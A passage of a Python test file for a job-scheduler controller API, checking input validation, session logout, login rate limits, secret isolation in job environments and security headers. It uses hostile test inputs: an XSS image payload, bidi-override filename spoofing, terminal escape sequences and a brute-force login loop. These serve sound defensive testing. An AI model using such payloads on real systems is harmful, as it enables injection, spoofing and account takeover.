        "latest from node node-\\x1b[2J: reported_at: bad",
    ]


def _row(**changes: Any) -> dict[str, Any]:
    """Return a valid schedule row body (every 2 minutes), with changes applied."""
    data: dict[str, Any] = {
        "name": "every two minutes", "repo_id": "r-9", "action": "backup",
        "schedule": {"interval_minutes": 2}, "miss_policy": "skip", "enabled": True,
    }
    data.update(changes)
    return data


def _stored(api: Controller, schedule_id: str) -> dict[str, Any] | None:
    answer = api.http.get(f"/api/nodes/node-a/schedules/{schedule_id}", headers=ADMIN)
    if answer.status_code == 404:
        return None
    assert answer.status_code == 200, answer.text
    data: dict[str, Any] = answer.json()
    return data


def _only(answer: Any) -> dict[str, Any]:
    assert answer.status_code == 422, answer.text
    [entry] = answer.json()["detail"]
    return dict(entry)


def test_unknown_keys_inside_schedule_are_refused_naming_them(controller: Controller) -> None:
    """Point 7: a typo inside schedule was dropped (every 2 minutes became an hourly row)."""
    typo = {"interval_minute": 2, "days": ["*"], "hours": ["*"], "minute": "0"}
    # Live: the wire model ignores unknown keys (as agents must), so the typo vanishes.
    parsed = LocalSchedule.model_validate({**_row(schedule=typo), "id": "s-typo"})
    assert parsed.schedule.interval_minutes is None and parsed.schedule.hours == ["*"]
    http = controller.http
    answer = http.put("/api/nodes/node-a/schedules/s-typo", json=_row(schedule=typo),
                      headers=ADMIN)
    assert _only(answer) == {"field": "schedule.interval_minute",
                             "loc": ["body", "schedule", "interval_minute"],
                             "msg": "unknown field 'interval_minute'", "type": "extra_forbidden"}
    assert _stored(controller, "s-typo") is None
    # A task's schedule, and the task body itself, likewise.
    task = {"schedule": typo, "event": "x"}
    assert _only(http.put("/api/tasks/t-typo", json=task, headers=ADMIN))["field"] == (
        "schedule.interval_minute")
    assert _only(http.put("/api/tasks/t-typo", json={"cron": "0 6 * * *", "event": "x",
                                                     "paylod": {}}, headers=ADMIN)
                 )["msg"] == "unknown field 'paylod'"
    assert http.get("/api/tasks/t-typo", headers=ADMIN).status_code == 404
    # PATCH {"schedule": {"interval": 1}} answered 200 and bumped the version, changing nothing.
    assert http.put("/api/nodes/node-a/schedules/s-1", json=_row(),
                    headers=ADMIN).status_code == 200
    answer = http.patch("/api/nodes/node-a/schedules/s-1", json={"schedule": {"interval": 1}},
                        headers=ADMIN)
    assert _only(answer)["field"] == "schedule.interval"
    assert LocalSchedule.model_validate(_stored(controller, "s-1")) == (
        LocalSchedule.model_validate({**_row(), "id": "s-1", "version": 1}))


@pytest.mark.parametrize(("field", "value", "json_type"), [
    ("enabled", "false", "string"), ("enabled", 0, "number"), ("repo_lock", "true", "string"),
    ("jitter", "15", "string"), ("version", "3", "string"),
])
def test_a_bool_is_a_json_bool_and_a_number_a_json_number(
    controller: Controller, field: str, value: Any, json_type: str
) -> None:
    """Point 7: enabled "false" was stored as false while repo_lock "true" was refused."""
    if field == "enabled":
        # Live: the wire model's lax reading turns the string into a bool.
        lax = LocalSchedule.model_validate({**_row(), "id": "s-x", field: value})
        assert lax.enabled is False
    answer = controller.http.put("/api/nodes/node-a/schedules/s-x", json=_row(**{field: value}),
                                 headers=ADMIN)
    entry = _only(answer)
    assert entry["field"] == field and entry["input"] == value
    kind = "boolean" if field in ("enabled", "repo_lock") else "integer"
    assert entry["msg"] == (f"Input should be a valid {kind}, not a JSON {json_type} "
                            "(no conversion)")
    assert _stored(controller, "s-x") is None


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "latin-1"])
def test_a_body_that_is_not_utf8_is_refused(controller: Controller, encoding: str) -> None:
    """Point 7: a UTF-16 body was read (Python's json guesses the encoding; Go does not)."""
    body = json.dumps(_row(name="café"), ensure_ascii=False).encode(encoding)
    if encoding != "latin-1":
        assert json.loads(body)["name"] == "café"  # live: Python reads it
    answer = controller.http.put("/api/nodes/node-a/schedules/s-enc", content=body,
                                 headers={**ADMIN, "content-type": "application/json"})
    entry = _only(answer)
    assert entry["field"] == "" and entry["loc"] == ["body"]
    assert entry["msg"].startswith("the body is not UTF-8") or entry["msg"].startswith(
        "invalid JSON"), entry  # UTF-16-LE without a BOM is valid UTF-8 (with NULs)
    assert _stored(controller, "s-enc") is None
    # The same row as UTF-8 is stored.
    assert controller.http.put("/api/nodes/node-a/schedules/s-enc", content=json.dumps(
        _row(name="café"), ensure_ascii=False).encode(), headers=ADMIN).status_code == 200


def test_a_task_timezone_localtime_is_refused_as_a_row_is(controller: Controller) -> None:
    """Point 7: a task in "localtime" followed the controller machine's zone."""
    from sched_core.matcher import zone

    assert zone("localtime") is not None  # live: the zone database has a file by that name
    http = controller.http
    for value in ("localtime", "posixrules", "posix/Europe/Berlin"):
        task = {"cron": "0 6 * * *", "event": "x", "timezone": value}
        entry = _only(http.put("/api/tasks/t-local", json=task, headers=ADMIN))
        assert entry["field"] == "timezone"
        assert entry["msg"] == (f"timezone {value!r} is not an IANA zone name such as "
                                "'Europe/Berlin'")
        row_entry = _only(http.put("/api/nodes/node-a/schedules/s-local",
                                   json=_row(timezone=value), headers=ADMIN))
        assert row_entry["msg"] == entry["msg"]
    assert http.get("/api/tasks/t-local", headers=ADMIN).status_code == 404
    task = {"cron": "0 6 * * *", "event": "x", "timezone": "Europe/Berlin"}
    assert http.put("/api/tasks/t-local", json=task, headers=ADMIN).status_code == 200


@pytest.mark.parametrize(("changes", "field", "words"), [
    ({"name": "x" * 100_000}, "name", "name is 100000 characters long; the most is 200"),
    ({"name": "invoice\u202egpj.exe"}, "name", "name holds U+202E (a bidi control) at character 8"),
    ({"name": "a\u2066b"}, "name", "name holds U+2066 (a bidi control)"),
    ({"name": "a\x1b[2Jb"}, "name", "name holds U+001B (a control character)"),
    ({"name": "two\nlines"}, "name", "name holds U+000A (a control character)"),
    ({"storage": "b2\x85"}, "storage", "storage holds U+0085 (a control character)"),
    ({"paused": {"note": "disk swap\u202e"}}, "paused.note", "paused.note holds U+202E"),
    ({"schedule": {"on": "after_wave\u200f"}}, "schedule.on", "schedule.on holds U+200F"),
])
def test_free_text_in_a_row_is_bounded_and_printable(
    controller: Controller, changes: dict[str, Any], field: str, words: str
) -> None:
    """Point 8: a 100,000-character name (or a bidi control) was stored and shown."""
    # Live: the wire model (as agents read rows) takes it as it is.
    parsed = LocalSchedule.model_validate({**_row(**changes), "id": "s-text"})
    if field == "name":
        assert parsed.name == changes["name"]
    answer = controller.http.put("/api/nodes/node-a/schedules/s-text", json=_row(**changes),
                                 headers=ADMIN)
    entry = _only(answer)
    assert entry["field"] == field and words in entry["msg"], entry
    assert _stored(controller, "s-text") is None
    # A PATCH is held to the same rule; the longest name allowed is stored.
    assert controller.http.put("/api/nodes/node-a/schedules/s-text", json=_row(name="é" * 200),
                               headers=ADMIN).status_code == 200
    answer = controller.http.patch("/api/nodes/node-a/schedules/s-text", json=changes,
                                   headers=ADMIN)
    assert _only(answer)["field"] == field
    stored = _stored(controller, "s-text")
    assert stored is not None and stored["version"] == 1 and stored["name"] == "é" * 200


def test_a_row_stored_before_the_text_rule_stays_readable_pullable_and_deletable(
    controller: Controller
) -> None:
    """Nothing stored before is lost: a long name already in the database is still served."""
    from sqlmodel import Session

    from controller import schedules as store
    from controller.db import make_engine

    legacy = LocalSchedule.model_validate({**_row(name="y" * 3000), "id": "s-old"})
    engine = make_engine(controller.url)
    try:
        with Session(engine) as session:
            store.put_schedule(session, "node-a", legacy)
    finally:
        engine.dispose()
    assert _stored(controller, "s-old")["name"] == "y" * 3000  # type: ignore[index]
    pulled = controller.http.get("/api/schedules", params={"node": "node-a"}, headers=NODE)
    assert [row["name"] for row in pulled.json()["schedules"]] == ["y" * 3000]
    assert controller.http.get("/api/nodes/node-a/status", headers=NODE).status_code == 200
    assert controller.http.delete("/api/nodes/node-a/schedules/s-old",
                                  headers=ADMIN).status_code == 204


@pytest.mark.parametrize(("where", "value", "field", "words"), [
    ("agent_version", "1.0\u202e", "agent_version", "agent_version holds U+202E (a bidi control)"),
    ("agent_version", "1.0\x1b[31m", "agent_version", "holds U+001B (a control character)"),
    ("error", "refused\x07", "last_pull.error", "error holds U+0007 (a control character)"),
    ("error", "e" * 2001, "last_pull.error", "at most 2000 characters"),
    ("state", "Completed\u2067", "schedules.0.latest_job.state", "state holds U+2067"),
    ("flow_run_name", "<b>run</b>\u202d", "schedules.0.latest_job.flow_run_name", "U+202D"),
])
def test_free_text_in_a_report_is_bounded_and_printable(
    controller: Controller, where: str, value: str, field: str, words: str
) -> None:
    report = _report()
    if where == "agent_version":
        report["agent_version"] = value
    elif where == "error":
        report["last_pull"] = {"at": "2026-12-03T07:31:00Z", "ok": False, "error": value}
    else:
        report["schedules"][0]["latest_job"][where] = value
    entry = _only(controller.http.post("/api/nodes/node-a/report", json=report, headers=NODE))
    assert entry["field"] == field and words in entry["msg"], entry
    assert controller.http.get("/api/nodes/node-a/status", headers=NODE).status_code == 404
    # An error message of several lines is text too: it is stored.
    report = _report(last_pull={"at": "2026-12-03T07:31:00Z", "ok": False,
                                "error": "pull failed:\n\tconnection refused"})
    assert controller.http.post("/api/nodes/node-a/report", json=report,
                                headers=NODE).status_code == 204


@pytest.mark.parametrize("node", ["<img src=x onerror=alert(1)>", "node\u202ea", "a b", "-n",
                                  "x" * 129, "node\x1b[2J"])
def test_one_node_name_rule_for_puts_reports_and_pulls(controller: Controller, node: str) -> None:
    """Point 8: a node created only by a report (or a pull) could be any text."""
    from urllib.parse import quote

    from controller.api.jsonbody import check_name

    check_name(("path", "node"), node, storing=True)  # live: the report's old rule passed it
    http = controller.http
    path = quote(node, safe="")
    for answer in (
        http.post(f"/api/nodes/{path}/report", json=_report(node=node), headers=ADMIN),
        http.put(f"/api/nodes/{path}/schedules/s-1", json=_row(), headers=ADMIN),
    ):
        entry = _only(answer)
        assert entry["field"] == "node" and entry["loc"] == ["path", "node"]
        assert "is not an identifier: 1 to 128 ASCII letters" in entry["msg"], entry
    # A pull by such a name is answered (a row stored before the rule stays readable) but
    # adds no node to the fleet.
    pulled = http.get("/api/schedules", params={"node": node}, headers=ADMIN)
    assert pulled.status_code == 200 and pulled.json() == {"schedules": []}
    http.get("/api/nodes/node-a/schedules", headers=NODE)  # a node that is one: recorded
    nodes = [row["node"] for row in http.get("/api/status", headers=ADMIN).json()["nodes"]]
    assert nodes == ["node-a"]


def test_log_out_ends_the_session_on_every_instance_at_once(controller: Controller) -> None:
    """Point 6: the signed cookie went on working for the rest of its 12 h after Log out."""
    import httpx

    from controller.api import create_app
    from controller.api.page import COOKIE, cookie_principal
    from controller.auth import Tokens
    from controller.db import make_engine
    from controller.testing import serve_in_thread

    tokens = Tokens(admin=[ADMIN_TOKEN], nodes={"node-a": [NODE_TOKEN]})
    http = controller.http

    def log_in(client: httpx.Client) -> str:
        answer = client.post("/login", data={"token": ADMIN_TOKEN})
        assert answer.status_code == 303
        client.cookies.clear()  # each request below says which cookie it sends
        return str(answer.cookies[COOKIE])

    def jar(value: str) -> dict[str, str]:
        return {"cookie": f"{COOKIE}={value}"}

    cookie = log_in(http)
    # A second login gets a cookie of its own (logging one out ends that one only).
    other = log_in(http)
    assert other != cookie
    engine = make_engine(controller.url)
    try:
        with serve_in_thread(create_app(engine, tokens)) as second_base, \
                httpx.Client(base_url=second_base, timeout=30) as second:
            for client in (http, second):  # any instance sharing the tokens accepts it
                assert client.get("/", headers=jar(cookie)).status_code == 200
            out = http.post("/logout", headers=jar(cookie))
            assert out.status_code == 303
            assert 'Max-Age=0' in out.headers["set-cookie"]
            # Live: the cookie is still a valid signature of the admin's token, unexpired:
            # a client that keeps it (a copy, a stolen one) would still be the admin...
            assert cookie_principal(tokens, cookie, time.time()) is not None
            # ...but both instances refuse it at once.
            for client in (http, second):
                page = client.get("/", headers=jar(cookie))
                assert page.status_code == 401, page.text
                assert "your session has ended: log in again" in page.text
                assert client.get("/", headers=jar(other)).status_code == 200
            # Logging in again works at once.
            again = log_in(second)
            assert http.get("/", headers=jar(again)).status_code == 200
    finally:
        engine.dispose()


SECRETS = {"SCHED_TOKEN": "sched-node-token-SECRET-1", "PREFECT_API_KEY": "pnu_SECRET-2",
           "PREFECT_API_AUTH_STRING": "admin:SECRET-3", "AWS_SECRET_ACCESS_KEY": "SECRET-4"}


def test_job_environment_is_the_base_the_zone_and_the_declared_env_only() -> None:
    agent = {"PATH": "/opt/bin:/usr/bin", "HOME": "/var/lib/sched", "LANG": "C.UTF-8",
             "USER": "sched", "TMPDIR": "/tmp/x", "PYTHONPATH": "/srv/agent", **SECRETS}
    declared = {"RESTIC_PASSWORD_FILE": "/etc/sched-agent/pw", "LANG": "de_DE.UTF-8"}
    assert job_environment(declared, tz="Europe/Berlin", base=agent) == {
        "PATH": "/opt/bin:/usr/bin", "HOME": "/var/lib/sched", "USER": "sched",
        "LANG": "de_DE.UTF-8", "TMPDIR": "/tmp/x", "TZ": "Europe/Berlin",
        "RESTIC_PASSWORD_FILE": "/etc/sched-agent/pw"}
    # No zone on the row: UTC; no PATH on the agent: a default one.
    assert job_environment({}, tz="", base={}) == {"PATH": "/usr/local/bin:/usr/bin:/bin",
                                                   "TZ": "UTC"}


def test_a_command_never_sees_the_agents_credentials(
    monkeypatch: pytest.MonkeyPatch
) -> None:
    """Point 5: `env` as a job printed SCHED_TOKEN and PREFECT_API_AUTH_STRING into the log."""
    import subprocess

    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    # Live: a child that inherits the agent's environment (what run_command did) prints them.
    leaked = subprocess.run(["env"], env={**os.environ}, capture_output=True, text=True,
                            check=True).stdout
    assert all(value in leaked for value in SECRETS.values())
    lines: list[str] = []
    assert run_command(["env"], timeout_s=30, log=lines.append).exit_code == 0
    assert not any(value in line for value in SECRETS.values() for line in lines), lines
    assert "TZ=UTC" in lines and any(line.startswith("PATH=") for line in lines)
    lines.clear()
    run_command(["env"], timeout_s=30, log=lines.append,
                env=job_environment({"X_DECLARED": "1"}, tz="America/New_York"))
    assert sorted(line.split("=")[0] for line in lines) == sorted(
        ["X_DECLARED", "TZ", *(n for n in ("PATH", "HOME", "USER", "LOGNAME", "LANG", "LC_ALL",
                                          "LC_CTYPE", "TMPDIR") if os.environ.get(n) or
                                n == "PATH")])


@pytest.mark.prefect
@pytest.mark.usefixtures("prefect_server")
def test_run_job_gives_its_command_no_credentials(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Point 5 through run-job: the run's log shows the command's environment, no secret."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import LogFilter, LogFilterFlowRunId

    node = Node(tmp_path, monkeypatch, "agent.toml")
    with node.config.open("a") as config:
        config.write('\n[actions.printenv]\nargv = ["env"]\nenv = { X_DECLARED = "yes" }\n')
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    node.cache([{**_demo("p-env", "printenv"), "timezone": "Europe/Berlin"}])
    state = node.run("p-env")
    assert state.is_completed(), state.message
    run_id = state.flow_run_id
    deadline = time.monotonic() + 15
    with get_client(sync_client=True) as client:
        while True:
            lines = [entry.message for entry in client.read_logs(
                log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=[run_id])))]
            if "X_DECLARED=yes" in lines or time.monotonic() > deadline:
                break
            time.sleep(0.2)
    assert "X_DECLARED=yes" in lines and "TZ=Europe/Berlin" in lines, lines
    assert not any(value in line for value in SECRETS.values() for line in lines)
    assert not any(line.startswith(("SCHED_", "PREFECT_")) for line in lines), lines


def test_login_guesses_are_limited_per_address(controller: Controller) -> None:
    """Point 9: 200 wrong logins in 2.6 s were each tried."""
    http = controller.http
    answers = [http.post("/login", data={"token": f"guess-{i}"}).status_code for i in range(200)]
    # The first 10 are tried (each a 401 "unknown token"); the rest are not even tried.
    assert answers == [401] * 10 + [429] * 190
    refused = http.post("/login", data={"token": ADMIN_TOKEN})  # the right one, too, must wait
    assert refused.status_code == 429
    assert 1 <= int(refused.headers["retry-after"]) <= 60
    assert "too many failed logins from your address: try again in" in refused.text
    # Bearer callers (scripts) are not affected; the API's tokens are not guessed here.
    assert http.get("/api/nodes", headers=ADMIN).status_code == 200


def _session_runner(engine: Any, queries: list[int] | None = None) -> Any:
    """Return an ``in_session`` as the controller's: work in a session of engine, committed;
    each call counted in queries when given."""
    from sqlmodel import Session

    def in_session(work: Any) -> Any:
        if queries is not None:
            queries[0] += 1
        with Session(engine) as session:
            found = work(session)
            session.commit()
            return found

    return in_session


def test_the_login_limit_forgets_failures_after_its_window(engine: Any) -> None:
    """The limit's window slides, per client, in the database ([sqlite] and [postgres])."""
    from sqlalchemy import text

    from controller.api.login_limit import LoginLimit

    in_session = _session_runner(engine)
    start = datetime(2026, 12, 7, 12, 0, tzinfo=UTC)
    now = [start]
    limit = LoginLimit(in_session, failures=3, window=60, clock=lambda: now[0])
    for at in (0.0, 10.0, 20.0):
        now[0] = start + timedelta(seconds=at)
        assert limit.wait_s("10.0.0.1") == 0
        limit.failed("10.0.0.1")
    assert limit.wait_s("10.0.0.1") == 40.0  # the oldest failure leaves the window at 60
    assert limit.wait_s("10.0.0.2") == 0     # another client is not held back
    now[0] = start + timedelta(seconds=60)
    assert limit.wait_s("10.0.0.1") == 0
    limit.failed("10.0.0.2")                 # each failure prunes the ones past the window
    rows = in_session(lambda s: s.execute(text("SELECT client FROM login_failure")).all())
    assert sorted(row[0] for row in rows) == ["10.0.0.1", "10.0.0.1", "10.0.0.2"]


def test_a_client_found_waiting_is_refused_again_without_a_query(engine: Any) -> None:
    """Issue 36, the slow-login flood: each of ~300 refused logins a second asked the database
    for the client's failures. A wait the database gave is remembered until it ends."""
    from controller.api.login_limit import LoginLimit

    queries = [0]
    in_session = _session_runner(engine, queries)
    start = datetime(2026, 12, 7, 12, 0, tzinfo=UTC)
    now = [start]
    limit = LoginLimit(in_session, failures=2, window=60, clock=lambda: now[0])
    limit.failed("10.0.0.9")
    now[0] = start + timedelta(seconds=1)
    limit.failed("10.0.0.9")
    before = queries[0]
    assert limit.wait_s("10.0.0.9") == 59.0
    now[0] = start + timedelta(seconds=15)
    assert [limit.wait_s("10.0.0.9") for _ in range(50)] == [45.0] * 50
    assert queries[0] == before + 1
    now[0] = start + timedelta(seconds=60)   # its wait over: the database is asked again
    assert limit.wait_s("10.0.0.9") == 0
    assert queries[0] == before + 2


def test_every_answer_carries_nosniff_and_no_referrer(controller: Controller) -> None:
    """Point 9 (HSTS over HTTPS: tests/test_controller_cli.py, on a real TLS serve)."""
    http = controller.http
    for answer in (http.get("/healthz"), http.get("/api/nodes"), http.get("/"),
                   http.get("/openapi.json"), http.post("/api/nodes", headers=ADMIN),
                   http.put("/api/nodes/node-a/schedules/s", content=b"\xff", headers=ADMIN)):
        assert answer.headers["x-content-type-options"] == "nosniff", answer.request.url
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert "strict-transport-security" not in answer.headers  # plain HTTP: no HSTS


def test_an_unreachable_database_is_a_503_with_a_reason(tmp_path: Path) -> None:
    """Point 9: with the database unreachable the API answered a bare 500."""
    import httpx
    from sqlalchemy.exc import OperationalError

    from controller.api import create_app
    from controller.auth import Tokens
    from controller.db import make_engine
    from controller.testing import serve_in_thread

    port = free_port()  # nothing listens there
    engine = make_engine(f"postgresql://sched:db-pw-secret@127.0.0.1:{port}/sched")
    try:
        # Live: every query raises, and FastAPI's default for an exception is a bare 500.
        with pytest.raises(OperationalError):
            engine.connect()
        app = create_app(engine, Tokens(admin=[ADMIN_TOKEN], nodes={"node-a": [NODE_TOKEN]}),
                         record_pulls=False)
        with serve_in_thread(app) as base, httpx.Client(base_url=base, timeout=60) as http:
            for method, path, headers in (
                    ("GET", "/api/nodes", ADMIN), ("GET", "/api/schedules?node=node-a", NODE),
                    ("GET", "/api/tasks", ADMIN), ("GET", "/api/status", ADMIN),
                    ("PUT", "/api/nodes/node-a/schedules/s-1", ADMIN)):
                answer = http.request(method, path, headers=headers,
                                      json=_row() if method == "PUT" else None)
                assert answer.status_code == 503, (path, answer.text)
                assert answer.json() == {"detail": "the database is unavailable "
                                         "(OperationalError); try again shortly"}
                assert answer.headers["retry-after"] == "5"
                assert "db-pw-secret" not in answer.text
            assert http.get("/healthz").status_code == 503
            # Auth still comes first: no token is a 401, not a 503.
            assert http.get("/api/nodes").status_code == 401
    finally:
        engine.dispose()


def test_a_short_admin_token_is_served_with_a_warning(caplog: pytest.LogCaptureFixture) -> None:
    """Point 9: a one-character admin token was accepted silently."""
    from controller.auth import MIN_TOKEN_LENGTH, Tokens

    tokens = Tokens(admin=["a", "x" * MIN_TOKEN_LENGTH], nodes={"node-a": ["tok1"]})
    assert tokens.authenticate("a") is not None  # live: one character is the admin
    caplog.set_level(logging.WARNING, logger="controller.auth")
    tokens.warn_short()
    assert [r.getMessage() for r in caplog.records] == [
        "the admin token is 1 characters long, under the minimum of 16: anyone who can reach "
        "the API can guess it; use a long random one (openssl rand -hex 32)",
        "the node:node-a token is 4 characters long, under the minimum of 16: anyone who can "
        "reach the API can guess it; use a long random one (openssl rand -hex 32)"]
    caplog.clear()
    Tokens(admin=["x" * MIN_TOKEN_LENGTH]).warn_short()
    assert caplog.records == []


def test_the_openapi_document_declares_what_the_server_answers(controller: Controller) -> None:
    """Point 9 (schemathesis' findings): undeclared 401/403/404/413, and a 405's Allow."""
    http = controller.http
    document = http.get("/openapi.json").json()
    methods = ("get", "put", "post", "patch", "delete")
    for template, operations in document["paths"].items():
        path = (template.replace("{node}", "node-a").replace("{schedule_id}", "s-none")
                .replace("{name}", "t-none"))
        documented = [m.upper() for m in methods if m in operations]
        for method, operation in operations.items():
            declared = set(operation["responses"])
            if template.startswith("/api/"):
                assert {"401", "403", "503"} <= declared, (method, template, declared)
                # The server gives the declared 401 to a caller without a token.
                assert http.request(method.upper(), path).status_code == 401
            if "{" in template:
                assert "404" in declared, (method, template)
            if "requestBody" in operation:
                assert {"413", "422"} <= declared, (method, template)
        # A method the path does not take: 405, and Allow names exactly the documented ones.
        for method in methods:
            if method in operations:
                continue
            answer = http.request(method.upper(), path, headers=ADMIN)
            assert answer.status_code == 405, (method, template)
            assert answer.headers["allow"].split(", ") == documented, (method, template)
    # Starlette alone answered "Allow: GET" here (its first route's only method).
    assert http.post("/api/nodes/node-a/schedules/s-1", headers=ADMIN).headers["allow"] == (
        "GET, PUT, PATCH, DELETE")
